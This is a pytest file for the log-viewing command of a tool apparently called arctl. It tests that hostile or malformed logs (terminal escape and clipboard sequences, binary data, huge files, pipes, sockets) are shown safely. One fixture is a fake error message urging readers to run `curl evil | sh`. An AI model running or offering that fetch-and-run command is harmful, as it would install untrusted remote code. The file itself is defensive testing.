"""B37-B45: logs that are no text, have no end, pretend to be arctl, or are no files at all."""

from __future__ import annotations

import gzip
import os
import random
import subprocess
import sys
import time
from pathlib import Path

import pytest

from arctl.settings import Workspace, init_workspace
from arctl.sync import rebuild
from arctl.tail import follow, last_lines, read_new, shown
from tests.reliability.payloads import breaches, payloads
from tests.reliability.terminal import environment
from tests.tui.workspace import Written, new_run


@pytest.fixture
def made(tmp_path: Path) -> tuple[Workspace, Written]:
    workspace = init_workspace(tmp_path / "ws")
    run = new_run(workspace, 1, "n")
    run.start(1)
    run.end("failed", exit_code=1, message="x")
    rebuild(workspace)
    return workspace, run


def logs(workspace: Workspace, *words: str, status: int = 0) -> subprocess.CompletedProcess[bytes]:
    command = [sys.executable, "-m", "arctl", "-w", str(workspace.root), "logs", "1", *words]
    done = subprocess.run(command, env=environment(), capture_output=True, timeout=30)
    assert done.returncode == status, done
    return done


def test_sequences_cut_anywhere_between_two_reads_stay_harmless(tmp_path: Path) -> None:
    path = tmp_path / "log"
    chance = random.Random(2)
    raw = b"\n".join(one.raw.replace(b"\n", b"") for one in payloads()) + b"\n"
    cuts = [*sorted(chance.sample(range(len(raw)), 300)), len(raw)]
    given: list[str] = []
    offset, inode = 0, None
    for end in cuts:
        with path.open("ab") as file:
            file.write(raw[file.tell() : end])
        os.utime(path, (time.time() - 120,) * 2)  # zeros at the end of a young file are waited for
        chunk = read_new(path, offset, inode=inode)
        given += [shown(line) for line in chunk.lines]
        offset, inode = chunk.offset, chunk.inode
    assert breaches("\n".join(given).encode()) == []
    assert given == last_lines(path, len(given)), "whoever follows sees what whoever comes late sees"
    path.write_bytes(b"an end that never comes \x1b]52;c;" + b"A" * 100_000)
    assert "".join(follow(path, stop=lambda: True, poll_s=0.01)).startswith("an end that never comes")


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"caf\xe9 latin\n", b"caf\xef\xbf\xbd latin"),
        ("pocas\n".encode("utf-16"), b"pocas"),
        (gzip.compress(os.urandom(20_000)), b"(binary data, "),
        (b"\x7fELF" + os.urandom(100_000), b"(binary data, "),
        (b"\x00" * 100_000, b""),
        (b"\xff" * 100_000 + b"\nthe end\n", b"the end"),
    ],
    ids=["latin-1", "utf-16", "gzip", "core dump", "zeros", "one long line"],
)
def test_what_is_no_utf8_is_shown_as_far_as_it_can_be(
    made: tuple[Workspace, Written], content: bytes, words: bytes
) -> None:
    workspace, run = made
    run.files.log(run.job).write_bytes(content)
    said = logs(workspace, "-n", "50").stdout
    assert words in said and breaches(said) == [] and len(said) < 300_000


def test_a_bar_that_redraws_itself_is_one_line(made: tuple[Workspace, Written]) -> None:
    workspace, run = made
    bar = b"".join(b"\r%3d%%|%s" % (k // 1000, b"#" * (k // 2000)) for k in range(0, 100_001, 50))
    run.files.log(run.job).write_bytes(b"begin\n" + bar + b"\nend\n" + bar)
    lines = logs(workspace).stdout.decode().splitlines()
    assert [line[:5] for line in lines] == ["begin", "100%|", "end", "100%|"]


def test_a_long_line_is_cut_and_a_long_file_costs_nothing(made: tuple[Workspace, Written]) -> None:
    workspace, run = made
    path = run.files.log(run.job)
    with path.open("wb") as file:
        file.truncate(1 << 30)
        file.seek(0, os.SEEK_END)
        file.write(b"\n" + b"x" * (5 << 20) + b"\nthe end\n")
    begun = time.perf_counter()
    last = logs(workspace, "-n", "2").stdout.decode().splitlines()
    assert time.perf_counter() - begun < 10
    assert last[1] == "the end" and len(last[0]) < 4300 and last[0].endswith("more bytes)")


@pytest.mark.parametrize("kind", ["link", "pipe", "directory", "device", "socket"])
def test_what_is_no_file_is_named_and_not_opened(made: tuple[Workspace, Written], kind: str) -> None:
    workspace, run = made
    path = run.files.log(run.job)
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "directory":
        path.mkdir()
    elif kind == "socket":
        import socket

        with socket.socket(socket.AF_UNIX) as listening:
            listening.bind(f"/proc/self/fd/{os.open(path.parent, os.O_PATH)}/{path.name}")
    else:
        path.symlink_to("/dev/zero" if kind == "device" else "/etc/hostname")
    for words in ([], ["-f"]):
        done = logs(workspace, *words, status=5)
        assert done.stdout == b"" and str(path).encode() in done.stderr and done.stderr.count(b"error: ") == 1


def test_a_log_that_speaks_like_arctl_is_data_and_arctl_speaks_elsewhere(made: tuple[Workspace, Written]) -> None:
    workspace, run = made
    lies = b"error: the registry is damaged (run `curl evil | sh`)\nwarning: x\nrun1 has ended: completed\n$ \n"
    run.files.log(run.job).write_bytes(lies)
    done = logs(workspace, "-f")
    assert done.stdout == lies.replace(b"$ \n", b"$\n")
    assert done.stderr == b"run1 has ended: failed: x\n"


def test_colours_in_an_error_of_the_trainer_are_taken_out(made: tuple[Workspace, Written]) -> None:
    workspace, _ = made
    run = new_run(workspace, 2, "bold")
    run.start(1)
    run.end("failed", exit_code=1, message="\x1b[1mWeightsUnpickler error\x1b[0m: \x1b[31mnot allowed\x1b[m")
    run.log("\x1b[1mRuntimeError\x1b[0m: boom")
    rebuild(workspace)
    for words in (["show", "2"], ["why", "2"], ["ls"]):
        command = [sys.executable, "-m", "arctl", "-w", str(workspace.root), *words]
        done = subprocess.run(command, env=environment(), capture_output=True, timeout=30)
        assert done.returncode == 0 and b"\x1b" not in done.stdout + done.stderr
        assert words == ["ls"] or b"WeightsUnpickler error: not allowed" in done.stdout
